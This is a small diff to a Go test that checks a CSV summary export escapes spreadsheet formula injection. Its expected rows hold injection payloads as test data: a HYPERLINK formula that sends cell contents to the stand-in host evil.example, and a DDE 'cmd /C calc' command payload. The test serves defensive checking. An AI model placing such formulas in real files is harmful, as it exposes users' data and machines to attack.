@@ -451,7 +451,9 @@ func TestSummaryCSVEscapesFormulas(t *testing.T) {
 		t.Fatalf("summary: %d %v %s", status, err, body)
 	}
 	want := [][]string{{"agent", "state", "exit_code", "metric", "value"},
-		{"'-2", "succeeded", "0", `'=HYPERLINK("http://evil.example/"&A1,"click")`, "'=cmd|' /C calc'!A0"},
+		// The metric's name is escaped as every name is (a "." is "\."),
+		// then guarded as a formula.
+		{"'-2", "succeeded", "0", `'=HYPERLINK("http://evil\.example/"&A1,"click")`, "'=cmd|' /C calc'!A0"},
 		{"'-2", "succeeded", "0", "a", "'+1+1"},
 		{"'-2", "succeeded", "0", "b", "'@SUM(A1:A9)"},
 		{"'-2", "succeeded", "0", "c", "'\tx"},
